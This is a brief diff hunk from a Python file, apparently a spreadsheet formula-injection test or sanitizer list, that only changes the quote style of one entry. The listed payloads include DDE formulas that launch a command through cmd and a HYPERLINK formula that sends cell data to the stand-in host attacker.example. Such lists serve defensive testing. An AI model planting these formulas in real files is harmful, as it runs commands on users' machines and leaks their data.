@@ -101,7 +101,7 @@ FORMATS: Final[dict[str, str]] = {
 
 FORMULAS: Final = (
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"https://attacker.example?x=\"&A1)",
+    '=HYPERLINK("https://attacker.example?x="&A1)',
     "+1+1",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
